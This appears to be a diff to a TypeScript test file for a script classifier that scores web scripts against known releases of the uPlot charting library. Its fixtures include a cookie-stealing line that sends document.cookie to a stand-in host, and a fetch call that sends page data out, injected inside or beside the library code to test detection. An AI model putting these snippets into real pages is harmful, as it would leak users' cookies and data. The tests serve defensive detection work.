@@ -7,10 +7,11 @@ import { releaseOf } from './libraries/library-release.ts';
 import { classifyScript } from './script-classifier.ts';
 
 const library = readFileSync('node_modules/uplot/dist/uPlot.iife.js', 'utf8');
+const { version } = JSON.parse(readFileSync('node_modules/uplot/package.json', 'utf8'));
 const thief = `new Image().src = '//x.test/?' + document.cookie;`;
 
 const known = new KnownLibraries(
-  [library, thief].flatMap((code) => releaseOf('charts', '1.2.3', code) ?? []),
+  [library, thief].flatMap((code) => releaseOf('charts', version, code) ?? []),
 );
 
 function scored(code: string, libraries = known) {
@@ -22,7 +23,7 @@ function scored(code: string, libraries = known) {
 describe('script classifier: known libraries', () => {
   it('names an unchanged release, which has a good score whatever it does', () => {
     const { library, scores, ids } = scored(thief);
-    assert.deepEqual(library, { name: 'charts', version: '1.2.3', match: 'unchanged' });
+    assert.deepEqual(library, { name: 'charts', version, match: 'unchanged' });
     assert.equal(scores.integrity, 80);
     assert.ok(ids.includes('library/known-release') && ids.some((id) => /^malware/.test(id)));
     assert.ok(scored(`${thief};a()`).scores.integrity < 10);
@@ -39,14 +40,21 @@ describe('script classifier: known libraries', () => {
     assert.ok(ids.includes('library/changed-release'));
   });
 
-  it('has a reason with points if the new code sends data, which alone is not sufficient', () => {
-    const { scores, reasons } = scored(
-      `${library}\nfetch('https://x.test/' + document.title + screen.width);`,
-    );
+  const sending = `fetch('https://x.test/' + document.title + screen.width);`;
+
+  it('has a reason with points if new code inside of the release sends data, which alone is not sufficient', () => {
+    const { scores, reasons } = scored(library.replace(/function \w+\(/, `${sending}$&`));
     assert.ok(scores.integrity >= 10);
-    const reason = reasons.find(({ id }) => id === 'code-added-to-library');
-    assert.match(reason?.what ?? '', /^Is charts 1\.2\.3 with added/);
-    assert.equal(reason?.line, library.split('\n').length + 1);
+    assert.equal(reasons.find(({ id }) => id === 'code-inside-library')?.points, 25);
+  });
+
+  it('has one with few points if the new code is beside the release', () => {
+    const { scores, reasons } = scored(`${library}\n${sending}`);
+    assert.ok(scores.integrity >= 10);
+    const reason = reasons.find(({ id }) => id === 'code-beside-library');
+    assert.equal(reason?.points, 10);
+    assert.match(reason.what, /^Is charts \d.* with code beside it that sends data/);
+    assert.equal(reason.line, library.split('\n').length + 1);
   });
 
   it('ships releases of libraries that many pages load', () => {
